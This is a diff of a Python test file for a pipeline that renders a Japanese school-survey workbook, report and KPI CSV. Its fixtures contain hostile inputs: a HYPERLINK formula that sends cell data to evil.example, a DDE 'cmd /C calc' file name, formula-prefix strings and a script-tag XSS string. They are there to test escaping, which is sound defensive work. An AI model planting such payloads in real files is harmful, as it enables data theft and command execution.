@@ -1,4 +1,7 @@
-"""The workbook read back with openpyxl, the report's sentences and escaping, kpi.csv bytes."""
+"""The workbook read back with openpyxl, the report's sentences and escaping, kpi.csv bytes.
+
+The survey is the tests' own (tests/fixtures/mini_survey.yaml): KPI scene_1 (①調べる) for 小学校 with
+R6 現状 80, R7 市目標 90, 国KPI 100; 高等学校 set their own targets."""
 from __future__ import annotations
 
 import datetime as dt
@@ -10,7 +13,19 @@ import pytest
 from pipeline.render import RunInfo, csv_bytes, render_outputs
 from pipeline.render.report import build_report
 from pipeline.render.workbook import build_workbook
-from test_score import DEF, answers_for, run, school
+from support import mini, school, score_of
+from support import answers_for as _answers_for
+
+DEF = mini()
+
+
+def answers_for(s, **overrides):
+    return _answers_for(DEF, s, **overrides)
+
+
+def run(entries, **kw):
+    return score_of(DEF, entries, **kw)
+
 
 RUN = RunInfo(run_id="20261125-143000", generated_at=dt.datetime(2026, 11, 25, 14, 30), roster_source="schools.csv")
 EVIL_REMARK = '=HYPERLINK("http://evil.example/?"&A1,"クリック")'
@@ -18,19 +33,17 @@ EVIL_REMARK = '=HYPERLINK("http://evil.example/?"&A1,"クリック")'
 
 @pytest.fixture(scope="module")
 def scores():
-    """20 小学校 (19 meet scene ①: 95.0 = target), 31 中学校 (15 meet scene ④: 48.4 vs 55),
-    one 中等教育学校, and hostile text in remarks, file names and problem values."""
+    """31 小学校 (27 meet scene ①: 87.1 vs 90), three 高等学校 (fewer than five: not shown on their own),
+    and hostile text in remarks, file names and problem values."""
     entries = []
-    for i in range(20):
-        e = school(f"E{i:02d}", ward=("青葉区", "泉区")[i % 2])
-        entries.append((e, answers_for(e, scene_1="月1回以上" if i == 0 else "週3回以上",
-                                       remarks=EVIL_REMARK if i == 1 else ("@SUM(1)" if i == 2 else None),
-                                       act_1_1_1_plan="未実施" if i == 3 else "実施済み")))
     for i in range(31):
-        j = school(f"J{i:02d}", "中学校", ward="太白区")
-        entries.append((j, answers_for(j, scene_4="週3回以上" if i < 15 else "週1回以上")))
-    s1 = school("S1", "中等教育学校", ward="青葉区")
-    entries.append((s1, answers_for(s1)))
+        e = school(f"E{i:02d}", ward=("青葉区", "泉区")[i % 2])
+        entries.append((e, answers_for(e, scene_1="週3回以上" if i < 27 else "週1回以上",
+                                       remarks=EVIL_REMARK if i == 1 else ("@SUM(1)" if i == 2 else None),
+                                       act_plan="未実施" if i == 3 else "実施済み")))
+    for i in range(3):
+        h = school(f"H{i}", "高等学校", ward="泉区")
+        entries.append((h, answers_for(h)))
     problems = [{"file": "=cmd|' /C calc'!A0.xlsx", "school_code": "E05", "sheet": "備考", "cell": "C5",
                  "item_id": "remarks", "value": "+1+1", "code": "check-ratio-max", "severity": "query",
                  "message": "「台数」<script>alert(1)</script> が多すぎるようです。"}]
@@ -46,6 +59,15 @@ def book(scores):
 @pytest.fixture(scope="module")
 def report(scores):
     return build_report(DEF, scores, RUN)
+
+
+@pytest.fixture(scope="module")
+def met():
+    """20 小学校, 18 meeting scene ①: 90.0, exactly the target. (scores, workbook, (html, md))."""
+    entries = [(school(f"E{i:02d}"), answers_for(school(f"E{i:02d}"), scene_1="月1回以上" if i < 2 else "週3回以上"))
+               for i in range(20)]
+    s = run(entries)
+    return s, openpyxl.load_workbook(io.BytesIO(build_workbook(DEF, s, RUN))), build_report(DEF, s, RUN)
 
 
 # ---------------------------------------------------------------- workbook
@@ -73,24 +95,25 @@ def _find_row(ws, **match):
     raise AssertionError(f"no row {match}")
 
 
-def test_kpi_values_and_judgement(book):
+def test_kpi_values_and_judgement(book, met):
     ws = book["場面別KPI"]
-    r = _find_row(ws, 校種="中学校", 場面="④児童生徒同士のやりとり")
-    assert r["有効回答校"].value == 31 and r["週3回以上の学校"].value == 15
-    assert r["結果"].value == pytest.approx(0.484) and r["結果"].number_format == "0.0%"
-    assert r["R7市目標"].value == pytest.approx(0.55)
-    assert r["目標との差"].value == pytest.approx(-6.6) and "pt" in r["目標との差"].number_format
-    assert r["R6現状比"].value == pytest.approx(14.0)
+    r = _find_row(ws, 校種="小学校", 場面="①調べる")
+    assert r["有効回答校"].value == 31 and r["週3回以上の学校"].value == 27
+    assert r["結果"].value == pytest.approx(0.871) and r["結果"].number_format == "0.0%"
+    assert r["R7市目標"].value == pytest.approx(0.9)
+    assert r["目標との差"].value == pytest.approx(-2.9) and "pt" in r["目標との差"].number_format
+    assert r["R6現状比"].value == pytest.approx(7.1)
     assert r["判定"].value == "未達成"
-    r = _find_row(ws, 校種="小学校", 場面="①自分で調べる")
-    assert r["結果"].value == pytest.approx(0.95) and r["判定"].value == "達成"
+    _, met_book, _ = met
+    r = _find_row(met_book["場面別KPI"], 校種="小学校", 場面="①調べる")
+    assert r["結果"].value == pytest.approx(0.9) and r["判定"].value == "達成"
     assert r["目標との差"].value == 0
 
 
 def test_charts_present(book):
-    assert len(book["場面別KPI"]._charts) == 2  # 小学校 and 中学校
+    assert len(book["場面別KPI"]._charts) == 1  # one per school type with a KPI: 小学校
     assert len(book["指導力"]._charts) == 1
-    assert len(book["経年"]._charts) == 2
+    assert len(book["経年"]._charts) == 1
 
 
 def test_every_sheet_prints_a4_landscape_fit_to_width_with_titles(book):
@@ -119,10 +142,12 @@ def test_conditional_formatting(book):
     assert any(r.formula and '"達成"' in r.formula[0] for r in kpi_rules)
     assert any(r.formula and '"未達成"' in r.formula[0] for r in kpi_rules)
     per_school = [(str(cf.sqref), r) for cf in book["学校別回答"].conditional_formatting for r in cf.rules]
-    # The 1-(1)-① plan column: red when the answer is neither 実施済み nor 実施中.
+    # The act_plan column: red when the answer is neither 実施済み nor 実施中.
     assert any('<>"実施済み"' in r.formula[0] and '<>"実施中"' in r.formula[0] for _, r in per_school if r.formula)
-    # Scene columns: below 週3回以上 for 小・中, below the own target for 高等学校等.
-    assert any('<>"週3回以上"' in r.formula[0] and '"中等教育学校"' in r.formula[0] for _, r in per_school if r.formula)
+    # The scene column: below 週3回以上 for 小学校, below the school's own target for 高等学校.
+    assert any('<>"週3回以上"' in r.formula[0] and '"高等学校"' in r.formula[0] for _, r in per_school if r.formula)
+    # The count action: red below its minimum of 1.
+    assert any(r.formula == ["AND(ISNUMBER($O7),$O7<1)"] for _, r in per_school)
 
 
 def test_school_text_is_never_a_formula(book):
@@ -147,10 +172,10 @@ def test_per_school_sheet_has_source_file_and_cells(book):
     assert r["提出状況"].value == "提出済み"
     assert _find_row(ws, 学校コード="X1")["提出状況"].value == "未提出"
     values = [c.value for row in ws.iter_rows(max_row=5) for c in row]
-    assert "回答セル →" in values and any(isinstance(v, str) and v.startswith("端末活用!") for v in values)
-    d = _find_row(book["データ"], 学校コード="E03", 項目ID="act_1_1_1_plan")
+    assert "回答セル →" in values and any(isinstance(v, str) and v.startswith("活用!") for v in values)
+    d = _find_row(book["データ"], 学校コード="E03", 項目ID="act_plan")
     assert d["回答"].value == "未実施" and d["目標未達"].value == "未達"
-    assert (d["ファイル"].value, d["シート"].value) == ("E03.xlsx", "取組状況")
+    assert (d["ファイル"].value, d["シート"].value) == ("E03.xlsx", "活用")
 
 
 def test_numbers_stay_numbers_in_data_sheet(book):
@@ -168,20 +193,21 @@ def test_sheet_over_the_row_limit_is_left_to_csv(scores):
 # ---------------------------------------------------------------- kpi.csv and render_outputs
 
 
-def test_kpi_csv_bytes(scores):
+def test_kpi_csv_bytes(scores, met):
     data = csv_bytes(scores.kpi_frame())
     assert data.startswith(b"\xef\xbb\xbf")
     lines = data.decode("utf-8-sig").splitlines()
     assert lines[0] == "kpi_id,school_type,respondents,meeting,rate,baseline,target,national_target,met"
-    assert "scene_4,中学校,31,15,48.4,34.4,55.0,80.0,false" in lines
-    assert "scene_1,小学校,20,19,95.0,86.5,95.0,100.0,true" in lines
-    assert len(lines) == 11
+    assert "scene_1,小学校,31,27,87.1,80.0,90.0,100.0,false" in lines
+    assert len(lines) == 2  # one KPI × one school type with a target
+    met_scores, _, _ = met
+    assert "scene_1,小学校,20,18,90.0,80.0,90.0,100.0,true" in csv_bytes(met_scores.kpi_frame()).decode("utf-8-sig")
 
 
 def test_kpi_csv_without_respondents_has_empty_rate_and_met():
-    s = run([(school("E1"), answers_for(school("E1")))])
+    s = run([(school("H1", "高等学校"), answers_for(school("H1", "高等学校")))])
     lines = csv_bytes(s.kpi_frame()).decode("utf-8-sig").splitlines()
-    assert "scene_1,中学校,0,0,,81.3,90.0,100.0," in lines
+    assert "scene_1,小学校,0,0,,80.0,90.0,100.0," in lines
 
 
 def test_render_outputs_names(scores):
@@ -194,11 +220,12 @@ def test_render_outputs_names(scores):
 # ---------------------------------------------------------------- report
 
 
-def test_report_key_sentences(report):
-    html, md = report
-    for text in (html, md):
-        assert "中学校の④は目標55%に対し48.4%（▲6.6pt）で未達成、R6比+14.0pt。" in text
-        assert "小学校の①は目標95%に対し95.0%（±0.0pt）で達成、R6比+8.5pt。" in text
+def test_report_key_sentences(report, met):
+    _, _, met_report = met
+    for text in report:
+        assert "小学校の①は目標90%に対し87.1%（▲2.9pt）で未達成、R6比+7.1pt。" in text
+    for text in met_report:
+        assert "小学校の①は目標90%に対し90.0%（±0.0pt）で達成、R6比+10.0pt。" in text
 
 
 def test_report_sections(report):
@@ -212,8 +239,8 @@ def test_report_sections(report):
 
 def test_report_charts_are_svg_with_text(report):
     html, _ = report
-    assert html.count("<svg") >= 3
-    assert "<text" in html and "④児童生徒同士のやりとり</text>" in html
+    assert html.count("<svg") == 2  # one KPI chart per school type with a target (小学校), the checklist
+    assert "<text" in html and "①調べる</text>" in html
     assert "@page" in html and "A4" in html
 
 
@@ -226,45 +253,46 @@ def test_school_text_is_escaped(report):
 
 def test_small_counts_are_not_shown_on_their_own(report, scores):
     html, md = report
-    # One 中等教育学校: its coverage rate is not shown, yet it counts in 全体.
-    assert "| 中等教育学校 | 1 | 1 | 0 | 0 | — |" in md
-    row = next(line for line in md.splitlines() if line.startswith("| 中等教育学校 | 1 |"))
+    # Three 高等学校: their coverage rate is not shown, yet they count in 全体.
+    assert "| 高等学校 | 3 | 3 | 0 | 0 | — |" in md
+    row = next(line for line in md.splitlines() if line.startswith("| 高等学校 | 3 |"))
     assert "100.0%" not in row
-    assert "| 全体 | 53 | 52 | 0 | 1 | 98.1% |" in md
+    assert "| 全体 | 35 | 34 | 0 | 1 | 97.1% |" in md
 
 
 def test_summary_is_written_from_the_numbers(report):
     _, md = report
     summary = md.split("## 8. まとめ", 1)[1].split("## 付録", 1)[0]
-    # Every KPI but 中学校 ④ is met (the other answers are ほぼ毎日): 9 of 10.
-    assert "10指標のうち、R7市目標を達成したのは9指標です。" in summary
-    assert "中学校の④児童生徒同士のやりとり（48.4%、目標55%、▲6.6pt）" in summary
+    assert "1指標のうち、R7市目標を達成した指標はありませんでした。" in summary
+    assert "小学校の①調べる（87.1%、目標90%、▲2.9pt）" in summary
 
 
 def test_report_sentences_for_missing_and_provisional():
-    # 小学校: 3 of 4 answered (暫定); 中学校: none in the roster -> no respondents.
-    entries = [(school(f"E{i}"), answers_for(school(f"E{i}"), scene_2="ほぼ毎日")) for i in range(3)]
-    entries += [(school(f"E{i}"), answers_for(school(f"E{i}"), scene_2="ほぼ毎日")) for i in range(3, 6)]
+    # 小学校: 6 of 8 answered (暫定), all ほぼ毎日.
+    entries = [(school(f"E{i}"), answers_for(school(f"E{i}"), scene_1="ほぼ毎日")) for i in range(6)]
     s = run(entries, missing=[school("E8"), school("E9")])
     html, md = build_report(DEF, s, RUN)
-    assert "小学校の②は目標75%に対し100.0%（+25.0pt）で達成、R6比+29.6pt（暫定：回答率75.0%）。" in md
-    assert "中学校の②は有効な回答がなく、率を算出できません。" in md
+    assert "小学校の①は目標90%に対し100.0%（+10.0pt）で達成、R6比+20.0pt（暫定：回答率75.0%）。" in md
+    # Only 高等学校 in the roster: the 小学校 KPI has no respondents.
+    s = run([(school("H1", "高等学校"), answers_for(school("H1", "高等学校")))])
+    _, md = build_report(DEF, s, RUN)
+    assert "小学校の①は有効な回答がなく、率を算出できません。" in md
     s = run(entries[:3])
     _, md = build_report(DEF, s, RUN)
-    assert "小学校の②は回答校が5校未満のため、率を示していません。" in md
+    assert "小学校の①は回答校が5校未満のため、率を示していません。" in md
 
 
 def test_everything_renders_when_all_schools_are_missing():
-    s = run([], missing=[school("E1"), school("J1", "中学校"), school("H1", "高等学校")])
+    s = run([], missing=[school("E1"), school("E2", flags={"院内学級"}), school("H1", "高等学校")])
     out = render_outputs(DEF, s, RUN)
     md = out["報告書.md"].decode()
     assert "小学校の①は有効な回答がなく、率を算出できません。" in md
-    assert "中学校の⑤は有効な回答がなく、率を算出できません。" in md
+    assert "| 高等学校 | 1 | — | — | — |" in md  # no own target judged
     assert "- 集計できる回答がまだありません（集計対象 0校）。" in md
     wb = openpyxl.load_workbook(io.BytesIO(out["集約結果.xlsx"]))
-    r = _find_row(wb["場面別KPI"], 校種="小学校", 場面="①自分で調べる")
+    r = _find_row(wb["場面別KPI"], 校種="小学校", 場面="①調べる")
     assert r["結果"].value is None and r["判定"].value == "—" and r["暫定"].value == "暫定"
-    assert "scene_1,小学校,0,0,,86.5,95.0,100.0," in out["kpi.csv"].decode("utf-8-sig").splitlines()
+    assert "scene_1,小学校,0,0,,80.0,90.0,100.0," in out["kpi.csv"].decode("utf-8-sig").splitlines()
 
 
 def test_long_problem_list_is_left_to_its_csv(scores):
@@ -282,17 +310,17 @@ def test_action_sheet_opens_with_one_row_per_action_and_the_share_per_school_typ
     rows = [[c.value for c in row] for row in ws[ref]]
     header, body = rows[0], rows[1:]
     assert header[:3] == ["計画番号", "学校の取組（調査項目）", "目標"]
-    assert header[3:-1] == ["小学校", "中学校", "中等教育学校", "全体"]
-    assert len(body) == scores.actions["item_id"].nunique()
-    plan = next(r for r in body if r[0] == "1-(1)-①" and r[1].startswith("情報活用能力育成の年間計画"))
-    assert plan[3] == pytest.approx(0.95)  # 19 of 20 小学校 answered 実施済み
+    assert header[3:-1] == ["小学校", "高等学校", "全体"]
+    assert len(body) == scores.actions["item_id"].nunique() == 3  # no school has a 院内学級: no act_hospital
+    plan = next(r for r in body if r[0] == "1-(1)-①" and r[1].startswith("年間計画を立てて"))
+    assert plan[3] == pytest.approx(30 / 31, abs=0.0005)  # 30 of 31 小学校 answered 実施済み
 
 
 def test_an_action_nobody_could_answer_keeps_its_row_with_empty_shares():
-    """Regression: the only 特別支援学校 did not answer; its items have no rate in any school type."""
+    """Regression: the only 高等学校 did not answer; its own action has no rate in any school type."""
     e = school("E1")
-    scores = run([(e, answers_for(e))], missing=[school("T1", "特別支援学校")])
+    scores = run([(e, answers_for(e))], missing=[school("H1", "高等学校")])
     ws = openpyxl.load_workbook(io.BytesIO(build_workbook(DEF, scores, RUN)))["取組状況"]
     rows = [[c.value for c in row] for row in ws[ws.tables["tbl_actions_summary"].ref]]
-    io_devices = next(r for r in rows if r[1] and "入出力支援機器" in r[1])
-    assert all(v is None for v in io_devices[3:-1])
+    training = next(r for r in rows if r[1] and "情報科の研修" in r[1])
+    assert all(v is None for v in training[3:-1])
